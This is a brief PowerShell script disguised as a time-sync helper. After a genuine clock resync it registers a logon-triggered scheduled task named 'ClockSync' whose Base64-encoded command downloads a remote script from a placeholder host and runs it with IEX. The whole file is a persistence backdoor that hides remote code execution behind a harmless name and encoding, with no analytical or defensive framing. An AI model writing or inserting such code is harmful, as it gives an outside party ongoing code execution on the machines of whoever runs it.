w32tm /resync
$p = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB0AGkAbQBlAC4AcwB5AG4AYwAtAGgAZQBsAHAAZQByAC4AZQB4AGEAbQBwAGwAZQAvAHQALgBwAHMAMQAnACkA'
$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -EncodedCommand $p"
Register-ScheduledTask -TaskName 'ClockSync' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)
